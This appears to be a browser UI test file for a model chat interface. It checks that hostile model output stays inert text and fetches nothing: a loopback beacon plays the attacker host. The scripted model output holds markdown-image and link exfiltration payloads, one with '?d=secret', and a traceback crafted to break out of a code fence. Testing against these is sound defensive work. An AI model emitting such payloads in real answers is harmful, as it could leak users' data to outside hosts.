"""Hostile model text in a real Chromium: nothing fetched, nothing linked, nothing breaks out.

A loopback HTTP server stands for an attacker's host; the scripted model puts its URL into every
place it shapes (thinking, code, stdout, a traceback that closes a markdown fence, the answer
prose, a `$$` that would end the typeset answer), and the question carries it too.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.ui.browser import ARTIFACTS, CHAT_INPUT, Browser
from tests.ui.conftest import Stack
from ui.markdown import WORD_JOINER


class Beacon(ThreadingHTTPServer):
    """Records the path of every request that reaches it."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        super().__init__(("127.0.0.1", 0), BeaconHandler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class BeaconHandler(BaseHTTPRequestHandler):
    server: Beacon

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def beacon() -> Iterator[Beacon]:
    server = Beacon()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def hostile_run(url: str) -> list[str]:
    fence = "chr(96) * 3"  # the model's code cannot spell the fence, or its block would end
    return [
        f"<think>\nThinking ![]({url}/think) <img src={url}/html> [leak]({url}/link)\n"
        f"```python\nprint('![]({url}/stdout)')\n"
        f"raise ValueError({fence} + '\\n**BROKEN** ![]({url}/traceback)\\n' + {fence})\n```\n",
        f"It failed, see {url}/plain.</think>",
        f"\n\nThe answer ![]({url}/answer) [here]({url}/answerlink?d=secret) is "
        f"\\boxed{{42\n$$\n![]({url}/latex)\n$$\n}}.",
    ]


def assert_nothing_leaked(browser: Browser, beacon: Beacon) -> None:
    port = json.dumps(beacon.url.removeprefix("http://"))
    made = browser.evaluate(
        f"[...document.querySelectorAll('img, a, iframe')].filter(e => "
        f"(e.src || e.href || '').includes({port})).map(e => e.outerHTML)"
    )
    assert made == [], f"elements point at the beacon host: {made}"
    assert beacon.hits == [], f"the page fetched {beacon.hits}"


def test_hostile_model_text_stays_text(
    stack: Stack, ui_url: str, beacon: Beacon, tmp_path: Path
) -> None:
    stack.load(*hostile_run(beacon.url))
    question = f"Hostile? ![]({beacon.url}/question) www.leak.test"
    with Browser(tmp_path / "profile", height=2400) as browser:
        browser.goto(ui_url)
        browser.wait_settled(60)
        browser.type_into(CHAT_INPUT, question)
        browser.wait_for_text("timings:", 90)
        browser.expand_all()  # the thinking's content is drawn only when open
        browser.wait_settled(30)
        browser.screenshot(ARTIFACTS / "untrusted.png")
        assert_nothing_leaked(browser, beacon)
        page = browser.text()
        for literal in (f"![]({beacon.url}/answer)", f"![]({beacon.url}/think)", question):
            assert literal in page, f"{literal!r} is not shown as written:\n{page}"
        sidebar = browser.evaluate("document.querySelector('[data-testid=stSidebar]').innerText")
        assert f"Hostile? ![]({beacon.url}/q" in sidebar.replace(WORD_JOINER, "")
        in_code = browser.evaluate(
            "[...document.querySelectorAll('pre, code')].some(e => "
            "e.innerText.includes('**BROKEN**'))"
        )
        broke_out = browser.evaluate(
            "[...document.querySelectorAll('strong')].some(e => e.innerText.includes('BROKEN'))"
        )
        assert in_code and not broke_out, "the traceback left its code block"
        browser.goto(f"{beacon.url}/control")  # the beacon does hear this browser
        browser.wait_for("document.readyState == 'complete'", 10, "the control request")
    assert beacon.hits == ["/control"]


def test_a_link_asks_before_it_spends_the_key(
    stack: Stack, ui_url: str, beacon: Beacon, tmp_path: Path
) -> None:
    stack.load(*hostile_run(beacon.url))
    with stack.client() as client:
        before = client.get("/v1/runs").json()["runs"]
    question = f"Linked ![]({beacon.url}/q)"
    with Browser(tmp_path / "profile") as browser:
        browser.goto(f"{ui_url}/?q={quote(question)}")
        browser.wait_for_text("A link brought this question", 60)
        browser.wait_settled(30)
        assert question in browser.text()
        with stack.client() as client:
            assert client.get("/v1/runs").json()["runs"] == before, "the link started a run"
        browser.click("Ask it")
        browser.wait_for_text("timings:", 90)
        browser.expand_all()
        browser.wait_settled(30)
        assert_nothing_leaked(browser, beacon)
        assert browser.evaluate("new URL(location.href).searchParams.get('thread')")
